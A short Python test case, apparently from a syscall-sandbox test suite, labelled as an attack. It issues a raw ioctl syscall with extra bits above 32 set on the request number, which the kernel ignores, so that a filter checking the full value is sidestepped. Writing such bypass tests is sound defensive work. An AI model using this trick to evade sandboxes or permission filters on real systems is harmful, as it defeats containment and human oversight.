# attack: use a permitted request with bits above it, which the kernel does not read
# outcome: ok 0
# control: outside
# preload: ctypes

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(number, *arguments):
    arguments = [ctypes.c_long(argument) if type(argument) is int else argument for argument in arguments]
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


reads, writes = os.pipe()
call(16, reads, (1 << 32) | 0x5421, ctypes.byref(ctypes.c_int(1)))
